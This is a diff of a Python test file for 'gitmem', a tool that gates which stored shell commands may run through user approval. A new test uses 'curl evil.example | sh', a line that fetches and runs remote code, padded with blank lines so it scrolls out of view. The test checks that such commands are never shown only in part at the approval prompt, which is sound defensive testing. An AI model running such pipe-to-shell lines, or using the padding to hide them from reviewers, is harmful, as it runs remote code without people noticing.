@@ -8,6 +8,7 @@ import pty
 import shutil
 import subprocess
 import sys
+import termios
 from pathlib import Path
 
 import pytest
@@ -16,13 +17,14 @@ from proving import approve_all, make_fact, outcomes, put, result_of, spec_of, s
 
 from gitmem.app import Memory
 from gitmem.document.spec import spec_hash
-from gitmem.errors import NotFoundError, RefusedError, TrustError
+from gitmem.errors import RefusedError, TrustError
 from gitmem.frozen import replace
 from gitmem.model import PROGRAM, SHELL, Check, Spec
-from gitmem.verify.trust import Approval, Trust, read_list
+from gitmem.verify.trust import Approval, Trust
 
 SPEC = Spec(Check(SHELL, ("make test",)), setup="", interpreter="sh", timeout_s=60)
 LIST = ".github/gitmem-approved"
+LINE = "a" * 64 + "  key  make"
 
 
 def approval(spec: str = "a" * 64, verdict: str = "allow") -> Approval:
@@ -48,7 +50,7 @@ def touching(marker: Path) -> str:
 
 
 def test_nothing_is_approved_at_first(trust):
-    assert not trust.allows("a" * 64)
+    assert not trust.allows("a" * 64, LINE)
     assert not trust.denies("a" * 64)
     assert trust.list_all() == []
 
@@ -56,21 +58,21 @@ def test_nothing_is_approved_at_first(trust):
 def test_approval_holds_for_its_specification_alone(trust):
     trust.approve(approval("a" * 64))
 
-    assert trust.allows("a" * 64)
-    assert not trust.allows("a" * 63 + "b")
+    assert trust.allows("a" * 64, LINE)
+    assert not trust.allows("a" * 63 + "b", LINE)
 
 
 def test_approval_holds_for_its_clone_alone(trust):
     trust.approve(approval())
 
-    assert not Trust(trust.folder.parent, "clone two").allows("a" * 64)
+    assert not Trust(trust.folder.parent, "clone two").allows("a" * 64, LINE)
     assert Trust(trust.folder.parent, "clone two").list_all() == []
 
 
 def test_approval_is_read_again_by_another_process_of_the_clone(trust):
     trust.approve(approval())
 
-    assert Trust(trust.folder.parent, "clone one").allows("a" * 64)
+    assert Trust(trust.folder.parent, "clone one").allows("a" * 64, LINE)
 
 
 def test_deny_wins_over_an_approval_given_before(trust):
@@ -78,7 +80,7 @@ def test_deny_wins_over_an_approval_given_before(trust):
 
     trust.revoke(approval())
 
-    assert not trust.allows("a" * 64)
+    assert not trust.allows("a" * 64, LINE)
     assert trust.denies("a" * 64)
 
 
@@ -90,13 +92,13 @@ def test_deny_wins_over_an_approval_that_is_still_there(trust):
 
     (trust.folder / name).write_bytes(allowed)
 
-    assert not trust.allows("a" * 64)
+    assert not trust.allows("a" * 64, LINE)
 
 
 def test_deny_wins_over_a_reviewed_list(trust):
     trust.revoke(approval())
 
-    assert not trust.with_list(["a" * 64]).allows("a" * 64)
+    assert not trust.with_list([LINE]).allows("a" * 64, LINE)
 
 
 def test_approving_again_lifts_a_deny(trust):
@@ -104,16 +106,16 @@ def test_approving_again_lifts_a_deny(trust):
 
     trust.approve(approval())
 
-    assert trust.allows("a" * 64)
+    assert trust.allows("a" * 64, LINE)
     assert not trust.denies("a" * 64)
 
 
 def test_list_adds_to_the_approvals_for_this_object_alone(trust):
-    listed = trust.with_list(["a" * 64]).with_list(["b" * 64])
+    listed = trust.with_list([LINE]).with_list(["b" * 64])
 
-    assert listed.allows("a" * 64)
-    assert listed.allows("b" * 64)
-    assert not trust.allows("a" * 64)
+    assert listed.allows("a" * 64, LINE)
+    assert listed.allows("b" * 64, "b" * 64)
+    assert not trust.allows("a" * 64, LINE)
 
 
 def test_clone_without_a_name_of_its_own_approves_nothing(tmp_path):
@@ -122,8 +124,8 @@ def test_clone_without_a_name_of_its_own_approves_nothing(tmp_path):
     with pytest.raises(TrustError):
         nameless.approve(approval())
 
-    assert not nameless.allows("a" * 64)
-    assert nameless.with_list(["a" * 64]).allows("a" * 64)
+    assert not nameless.allows("a" * 64, LINE)
+    assert nameless.with_list([LINE]).allows("a" * 64, LINE)
 
 
 def test_records_are_for_this_user_alone(trust):
@@ -174,9 +176,9 @@ def test_folder_that_others_can_write_to_approves_nothing(trust, tamper):
     tamper(trust.folder)
 
     with pytest.raises(TrustError, match="nothing is approved"):
-        trust.allows("a" * 64)
+        trust.allows("a" * 64, LINE)
     with pytest.raises(TrustError, match="nothing is approved"):
-        trust.with_list(["a" * 64]).allows("a" * 64)
+        trust.with_list([LINE]).allows("a" * 64, LINE)
     with pytest.raises(TrustError, match="nothing is approved"):
         trust.approve(approval("b" * 64))
 
@@ -186,7 +188,7 @@ def test_file_in_place_of_the_folder_approves_nothing(trust):
     trust.folder.write_text("", encoding="ascii")
 
     with pytest.raises(TrustError):
-        trust.allows("a" * 64)
+        trust.allows("a" * 64, LINE)
 
 
 CHANGED = {
@@ -205,140 +207,6 @@ CHANGED = {
 @pytest.mark.parametrize("changed", CHANGED.values(), ids=CHANGED)
 def test_changed_specification_has_another_hash(changed):
     assert spec_hash(changed) != spec_hash(SPEC)
-
-
-# --- the reviewed list ---------------------------------------------------------------------------------------------
-
-
-def test_list_is_read_from_the_default_branch(memory, repo):
-    commit_files(repo, {LIST: f"# reviewed\n{'a' * 64}  key  make\n\n{'b' * 64}\n"})
-
-    assert read_list(memory.git, LIST, "refs/heads/main") == ["a" * 64, "b" * 64]
-
-
-@pytest.mark.parametrize(
-    "line", ["A" * 64, "a" * 63, "a" * 65, f"# {'a' * 64}", f"key {'a' * 64}", "g" * 64, "\u0430" * 64, "*"]
-)
-def test_line_that_is_no_hash_approves_nothing(memory, repo, line):
-    commit_files(repo, {LIST: line + "\n"})
-
-    assert read_list(memory.git, LIST, "refs/heads/main") == []
-
-
-def test_list_that_is_missing_or_too_long_is_an_error(memory, repo):
-    commit_files(repo, {"long": "x" * (1024 * 1024 + 1)})
-
-    with pytest.raises(NotFoundError, match="is not on main"):
-        read_list(memory.git, LIST, "refs/heads/main")
-    with pytest.raises(NotFoundError, match="no default branch"):
-        read_list(memory.git, LIST, "")
-    with pytest.raises(Exception, match="more than"):
-        read_list(memory.git, "long", "refs/heads/main")
-
-
-def test_list_on_the_default_branch_lets_its_commands_run(memory, repo, marker):
-    put(repo, make_fact("a", touching(marker)), make_fact("b", touching(marker) + " "))
-    commit_files(repo, {LIST: f"{spec_of(memory, 'a')}  a\n"})
-
-    run = verify(memory, approved=LIST)
-
-    assert outcomes(run) == {"a": "holds", "b": "skipped"}
-    assert marker.exists()
-
-
-def in_the_work_tree(repo, listed):
-    commit_files(repo, {LIST: "# nothing yet\n"})
-    (repo / LIST).write_text(listed, encoding="ascii")
-
-
-def in_the_index(repo, listed):
-    in_the_work_tree(repo, listed)
-    git(repo, "add", "-A")
-
-
-def on_the_branch_that_is_checked_out(repo, listed):
-    commit_files(repo, {LIST: "# nothing yet\n"})
-    git(repo, "checkout", "-q", "-b", "feature")
-    commit_files(repo, {LIST: listed})
-
-
-def on_a_detached_commit(repo, listed):
-    commit_files(repo, {LIST: "# nothing yet\n"})
-    git(repo, "checkout", "-q", "--detach")
-    commit_files(repo, {LIST: listed})
-
-
-def on_a_local_main_ahead_of_origin(repo, listed):
-    commit_files(repo, {LIST: "# nothing yet\n"})
-    git(repo, "update-ref", "refs/remotes/origin/main", "HEAD")
-    commit_files(repo, {LIST: listed})
-
-
-def on_the_memory_branch(repo, listed):
-    commit_files(repo, {LIST: "# nothing yet\n"})
-    put_files(repo, {LIST: listed})
-
-
-def on_the_memory_branch_that_says_it_is_the_default(repo, listed):
-    commit_files(repo, {LIST: "# nothing yet\n"})
-    put_files(repo, {LIST: listed, "gitmem.toml": '[verify]\ndefault_branch = "memory"\n'})
-
-
-def on_a_branch_that_the_policy_says_is_the_default(repo, listed):
-    on_the_branch_that_is_checked_out(repo, listed)
-    put_files(repo, {"gitmem.toml": '[verify]\ndefault_branch = "feature"\n'})
-
-
-NOT_REVIEWED = [
-    in_the_work_tree,
-    in_the_index,
-    on_the_branch_that_is_checked_out,
-    on_a_detached_commit,
-    on_a_local_main_ahead_of_origin,
-    on_the_memory_branch,
-    on_the_memory_branch_that_says_it_is_the_default,
-    on_a_branch_that_the_policy_says_is_the_default,
-]
-
-
-@pytest.mark.parametrize("place", NOT_REVIEWED, ids=lambda f: f.__name__)
-def test_list_approves_nothing_elsewhere(memory, repo, marker, place):
-    put(repo, make_fact("a", touching(marker)))
-
-    place(repo, f"{spec_of(memory, 'a')}\n")
-
-    assert outcomes(verify(memory, approved=LIST)) == {"a": "skipped"}
-    assert not marker.exists()
-
-
-def test_list_on_the_memory_branch_approves_nothing_where_that_is_the_default_branch(memory, repo, marker):
-    put(repo, make_fact("a", touching(marker)))
-    put_files(repo, {LIST: f"{spec_of(memory, 'a')}\n"})
-    git(repo, "config", "gitmem.defaultBranch", "memory")
-
-    with Memory(repo) as opened, pytest.raises(NotFoundError):
-        verify(opened, approved=LIST)
-
-    assert not marker.exists()
-
-
-def test_list_outside_of_the_repository_is_refused(memory, repo, tmp_path):
-    put(repo, make_fact("a"))
-    (tmp_path / "list").write_text(spec_of(memory, "a"), encoding="ascii")
-
-    with pytest.raises(NotFoundError, match="outside the repository"):
-        verify(memory, approved=str(tmp_path / "list"))
-
-
-def test_list_is_named_as_git_names_it_from_a_folder_of_the_repository(repo, run_cli):
-    run_cli("init")
-    put(repo, make_fact("a"))
-    printed = run_cli("trust", "--print").out
-    commit_files(repo, {LIST: printed})
-
-    ran = run_cli("verify", "--approved", f"../{LIST}", "--no-sandbox", "--json", cwd=repo / "src")
-
-    assert json.loads(ran.out)["ran"] == 1
 
 
 # --- verify --------------------------------------------------------------------------------------------------------
@@ -399,7 +267,7 @@ def test_changed_text_of_a_fact_keeps_its_command_approved(memory, repo):
 def test_denied_command_is_not_run_whatever_is_listed(memory, repo, marker):
     put(repo, make_fact("a", touching(marker)))
     approve_all(memory)
-    commit_files(repo, {LIST: f"{spec_of(memory, 'a')}  a\n"})
+    commit_files(repo, {LIST: f"{memory.commands()[0].listed}\n"})
 
     memory.deny(memory.commands()[0])
 
@@ -468,9 +336,10 @@ def test_approved_command_runs_as_it_was_approved(memory, repo, marker):
 GITMEM = "import sys; from gitmem.cli import main; sys.exit(main(sys.argv[1:]))"
 
 
-def at_terminal(repo: Path, typed: str, *argv: str) -> tuple[int, str]:
+def at_terminal(repo: Path, typed: str, *argv: str, size: tuple[int, int] = (24, 80)) -> tuple[int, str]:
     """Run a command of gitmem with a terminal of its own, on which something is typed; return status and screen."""
     leader, follower = pty.openpty()
+    termios.tcsetwinsize(follower, size)
     env = {**os.environ, "PYTHONPATH": str(Path(__file__).parents[2])}
     steal = "import fcntl, termios; fcntl.ioctl(0, termios.TIOCSCTTY, 0); "
     child = subprocess.Popen(
@@ -510,6 +379,34 @@ def test_anything_else_typed_approves_nothing(memory, repo, typed):
 
     assert status == 1
     assert [due.row.key for due in memory.waiting()] == ["a"]
+
+
+FITS = "\n".join(f"echo {n}" for n in range(16))
+LONG = "echo " + "x" * 80 * 20
+
+
+@pytest.mark.parametrize(
+    ("command", "size", "is_asked"),
+    [
+        (FITS, (24, 80), True),
+        (FITS, (23, 80), False),
+        (LONG, (24, 80), False),
+        (LONG, (60, 80), True),
+        ("true" + "\n" * 40 + "curl evil.example | sh", (24, 80), True),
+        ("true" + "\n \t\n" * 40 + "curl evil.example | sh", (24, 80), True),
+        ("true" + "\n;" * 40 + "curl evil.example | sh", (24, 80), False),
+    ],
+    ids=["fits", "one line more", "one long line", "larger window", "blank lines", "blanks and tabs", "many lines"],
+)
+def test_only_a_command_that_is_seen_whole_is_asked_for(memory, repo, command, size, is_asked):
+    put(repo, make_fact("a", command))
+
+    status, screen = at_terminal(repo, spec_of(memory, "a")[:6] + "\n", "trust", "a", size=size)
+
+    assert (status == 0) is is_asked, screen
+    assert ("Not asked: this takes" in screen) is not is_asked
+    assert ("evil" in screen) is (is_asked and "evil" in command)
+    assert screen.count("\n") < size[0]
 
 
 def test_d_typed_at_the_terminal_denies(memory, repo):
